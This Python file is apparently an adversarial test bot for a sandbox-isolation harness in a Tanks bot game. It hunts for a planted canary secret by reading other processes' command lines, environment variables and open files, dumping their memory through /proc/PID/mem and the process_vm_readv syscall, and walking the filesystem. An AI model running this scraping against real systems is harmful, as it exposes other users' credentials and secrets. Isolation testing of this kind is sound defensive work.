"""Hostile Tanks bot: read another bot's code or /proc of others.

The other bot of the fight (and a sentinel process the escape driver
starts) carry a secret of the form CFSECRET-plain-<hex> in their source,
command line and memory. This bot looks for it: the other bot's file on the
host, every /proc/PID it can see (cmdline, environ, cwd, root, open files,
memory through /proc/PID/mem and process_vm_readv), and a bounded walk of
the filesystem it can see. What it finds goes to its log (the report).
"""
# @ESCAPE_PRELUDE@


import re

PATTERN = re.compile(('CFSECRET' + '-plain-' + '[0-9a-f]{16}').encode())
DEADLINE = time.monotonic() + float(CFG.get('read_budget_s', 0.7))
FOUND = set()


def found(where, data):
    for m in PATTERN.finditer(data):
        key = (where, m.group(0))
        if key in FOUND:
            continue
        FOUND.add(key)
        sys.stderr.write('LEAK %s %s\n' % (where, m.group(0).decode()))
        sys.stderr.flush()
        evidence('found the other bot\'s secret in %s' % where)


def read(path, limit=1 << 20):
    try:
        with open(path, 'rb') as f:
            return f.read(limit)
    except OSError:
        return b''


def scan_memory(pid):
    maps = read('/proc/%d/maps' % pid).decode('ascii', 'replace')
    try:
        mem = open('/proc/%d/mem' % pid, 'rb', buffering=0)
    except OSError:
        return
    with mem:
        budget = 64 << 20
        for line in maps.splitlines():
            if time.monotonic() > DEADLINE or budget <= 0:
                return
            parts = line.split()
            if len(parts) < 2 or not parts[1].startswith('r'):
                continue
            start, end = (int(x, 16) for x in parts[0].split('-'))
            size = min(end - start, budget)
            try:
                mem.seek(start)
                found('/proc/%d/mem' % pid, mem.read(size))
            except (OSError, ValueError, OverflowError):
                pass
            budget -= size


def vm_readv(pid):
    try:
        import ctypes

        class iovec(ctypes.Structure):
            _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
        lib = libc()
        maps = read('/proc/%d/maps' % pid).decode('ascii', 'replace')
        for line in maps.splitlines()[:64]:
            parts = line.split()
            if len(parts) < 2 or 'rw' not in parts[1]:
                continue
            start, end = (int(x, 16) for x in parts[0].split('-'))
            size = min(end - start, 8 << 20)
            buf = ctypes.create_string_buffer(size)
            local = iovec(ctypes.cast(buf, ctypes.c_void_p), size)
            remote = iovec(start, size)
            n = lib.syscall(310, pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
            if n > 0:
                found('process_vm_readv(%d)' % pid, buf.raw[:n])
    except Exception as e:
        note('process_vm_readv: %s' % e)


def scan_proc():
    me = os.getpid()
    try:
        pids = [int(p) for p in os.listdir('/proc') if p.isdigit()]
    except OSError:
        return
    note('sees %d processes' % len(pids))
    for pid in pids:
        if pid == me or time.monotonic() > DEADLINE:
            continue
        for leaf in ('cmdline', 'environ', 'comm'):
            found('/proc/%d/%s' % (pid, leaf), read('/proc/%d/%s' % (pid, leaf)))
        for d in ('cwd', 'root/tmp'):
            try:
                for entry in os.listdir('/proc/%d/%s' % (pid, d))[:200]:
                    path = '/proc/%d/%s/%s' % (pid, d, entry)
                    if os.path.isfile(path):
                        found(path, read(path))
            except OSError:
                pass
        try:
            for fd in os.listdir('/proc/%d/fd' % pid):
                path = '/proc/%d/fd/%s' % (pid, fd)
                if os.path.isfile(path):
                    found(path, read(path))
        except OSError:
            pass
        scan_memory(pid)
        vm_readv(pid)


def walk():
    roots = ['/tmp', '/work', '/home', '/root', '/var', '/srv', '/opt', '/']
    seen = 0
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            if time.monotonic() > DEADLINE:
                return
            dirnames[:] = [d for d in dirnames if not d.startswith('.') and not (
                dirpath == '/' and d in ('proc', 'sys', 'dev', 'usr', 'lib', 'mnt'))]
            for name in filenames:
                if name.endswith('.py'):
                    path = os.path.join(dirpath, name)
                    seen += 1
                    found(path, read(path, 1 << 16))
    note('walked %d python files' % seen)


def attack():
    if CFG.get('plain_path'):
        found(CFG['plain_path'], read(CFG['plain_path']))
    scan_proc()
    walk()


# @ESCAPE_ATTACK_MAIN@
